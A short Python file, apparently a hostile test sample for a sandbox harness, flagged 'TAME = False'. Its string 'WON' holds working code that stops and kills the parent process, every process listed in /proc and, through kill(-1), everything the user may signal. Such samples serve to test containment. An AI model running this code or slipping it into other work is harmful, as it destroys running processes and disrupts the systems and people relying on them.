"""Sends SIGKILL and SIGSTOP to its parent, to its group and to every process that it may signal."""

WON = """
import os, signal


def won():
    hit = 0
    for pid in [os.getppid(), *(int(p) for p in os.listdir("/proc") if p.isdigit())]:
        if pid > 1 and pid != os.getpid():
            try:
                os.kill(pid, signal.SIGSTOP)
                os.kill(pid, signal.SIGKILL)
                hit += 1
            except OSError:
                pass
    for number in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(-1, number)
        except OSError:
            pass
    return hit > 0
"""
TAME = False
